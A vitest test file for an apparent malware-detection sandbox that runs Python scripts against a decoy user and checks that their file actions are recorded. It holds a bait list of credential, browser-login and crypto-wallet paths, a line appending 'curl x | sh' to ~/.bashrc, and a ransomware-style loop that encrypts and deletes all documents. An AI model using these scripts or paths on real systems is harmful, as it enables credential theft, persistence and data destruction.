import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { inDecoy, told } from "./decoy-runs.ts";

const BAIT = {
  linux: [
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "~/.netrc",
    "~/.npmrc",
    "~/.bash_history",
    "~/.bashrc",
    "~/Documents/contract.docx",
    "~/Desktop/todo.txt",
    "~/.config/google-chrome/Default/Login Data",
    "~/.mozilla/firefox/x1y2z3.default-release/logins.json",
    "~/.electrum/wallets/default_wallet",
    "~/.config/Exodus/exodus.wallet/seed.seco",
    "/etc/passwd",
    "/etc/hosts",
    "/etc/crontab",
    "/proc/cpuinfo",
  ],
  windows: [
    "%USERPROFILE%\\.ssh\\id_rsa",
    "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data",
    "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Local State",
    "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn\\000003.log",
    "%APPDATA%\\discord\\Local Storage\\leveldb\\000005.ldb",
    "%APPDATA%\\Exodus\\exodus.wallet\\seed.seco",
    "%APPDATA%\\Electrum\\wallets\\default_wallet",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:/Users/mreed/Documents/passwords.txt",
  ],
} as const;

test.each(["linux", "windows"] as const)("the bait of %s is there, and reading it is told", async (system) => {
  const source = `
import os
for path in ${JSON.stringify(BAIT[system])}:
    path = os.path.expandvars(os.path.expanduser(path))
    if not os.path.isfile(path) or not open(path, "rb").read() or os.path.basename(path) not in os.listdir(os.path.dirname(path)): print(path)
`;
  const dossier = await inDecoy(source, { persona: { system } });
  expect([dossier.stdout, dossier.end.message]).toEqual(["", ""]);
  expect(dossier.observations.filter(({ action }) => action === "open")).toHaveLength(BAIT[system].length);
  expect(dossier.files).toEqual([]);
});

test("files that were made, changed and removed are told with their hashes", async () => {
  const source =
    "import os\nopen('/tmp/new.bin', 'wb').write(b'abc')\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh\\n')\nos.remove('/etc/hosts')\n" +
    "os.rename(os.path.expanduser('~/Documents/notes.txt'), os.path.expanduser('~/Documents/notes.txt.locked'))\nopen('/etc/crontab').read()";
  const { files } = await inDecoy(source, { persona: { system: "linux" } });
  const sha256 = createHash("sha256").update("abc").digest("hex");
  expect(files).toEqual([
    { path: "/etc/hosts", change: "removed", bytes: 0, sha256: undefined },
    { path: "/home/mreed/.bashrc", change: "changed", bytes: expect.any(Number), sha256: expect.any(String) },
    { path: "/home/mreed/Documents/notes.txt", change: "removed", bytes: 0, sha256: undefined },
    {
      path: "/home/mreed/Documents/notes.txt.locked",
      change: "made",
      bytes: expect.any(Number),
      sha256: expect.any(String),
    },
    { path: "/tmp/new.bin", change: "made", bytes: 3, sha256 },
  ]);
});

/** What is done to a file, and the action that it is told as, with what it names. */
const DEEDS: readonly (readonly [string, string, ...string[]])[] = [
  ["open('/etc/passwd').read()", "read", "/etc/passwd", "root:x:0"],
  ["for line in open('/etc/passwd'): pass", "read", "/etc/passwd"],
  ["open('/tmp/a', 'w').write('payload')", "write", "payload", "/tmp/a"],
  ["open('/nope')", "open", "No such file"],
  ["import pathlib\npathlib.Path('/etc/passwd').read_text()", "open", "/etc/passwd"],
  ["import pathlib\npathlib.Path('/etc/hosts').unlink()", "os.unlink", "/etc/hosts"],
  ["import os\nos.remove('/etc/hosts')", "os.remove", "/etc/hosts"],
  ["import os\nos.rename('/etc/hosts', '/etc/h')", "os.rename", "/etc/hosts", "/etc/h"],
  ["import os\nos.chmod('/etc/hosts', 0o777)", "os.chmod", "511"],
  ["import os\nos.listdir('/home')", "os.listdir", "mreed"],
  ["import os\nfor _ in os.walk('/home'): pass", "os.walk", "/home"],
  ["import os\nos.makedirs('/opt/x')", "os.makedirs", "/opt/x"],
  ["import os\nos.symlink('/etc/passwd', '/tmp/l')", "os.symlink", "/etc/passwd", "/tmp/l"],
  ["import os\nos.write(os.open('/tmp/f', os.O_WRONLY | os.O_CREAT), b'data')", "os.write", "data"],
  ["import shutil\nshutil.rmtree('/home/mreed/Documents')", "shutil.rmtree", "Documents"],
  ["import glob\nglob.glob('/home/mreed/*.txt')", "glob.glob", "*.txt"],
];

test.each(DEEDS)("%j is told as %s", async (source, action, ...parts) => {
  const dossier = await inDecoy(source, { persona: { system: "linux" } });
  for (const part of parts) expect(told(dossier, action)).toContain(part);
});

test("a walk that encrypts all documents is told file by file", async () => {
  const source = `
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for d, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        path = os.path.join(d, name)
        with open(path, "rb") as file: data = file.read()
        with open(path + ".locked", "wb") as file: file.write(f.encrypt(data))
        os.remove(path)
`;
  const { files, observations } = await inDecoy(source);
  expect(files.filter(({ change }) => change === "removed")).toHaveLength(5);
  expect(files.filter(({ path }) => path.endsWith(".locked"))).toHaveLength(5);
  expect(observations.filter(({ action }) => action === "cryptography.fernet.Fernet.encrypt")).toHaveLength(5);
});

test("the options' files, persona and arguments are what the script finds", async () => {
  const source =
    "import os, sys, getpass, socket\nprint(open('/srv/x').read(), getpass.getuser(), socket.gethostname(), os.environ['A'], sys.argv[1:], os.getcwd())\nimport time; print(time.strftime('%Y', time.gmtime()))";
  const { stdout } = await inDecoy(source, {
    files: { "/srv/x": "hello" },
    args: ["-v"],
    persona: { system: "linux", user: "ann", host: "box", env: { A: "b" }, start: new Date("2031-01-02") },
  });
  expect(stdout).toBe("hello ann box b ['-v'] /home/ann/Downloads\n2031\n");
});

test("a script that is written for Windows finds Windows", async () => {
  expect((await inDecoy("import os\np = os.getenv('APPDATA')\nprint(os.name, p)")).stdout).toBe(
    "nt C:\\Users\\mreed\\AppData\\Roaming\n",
  );
});
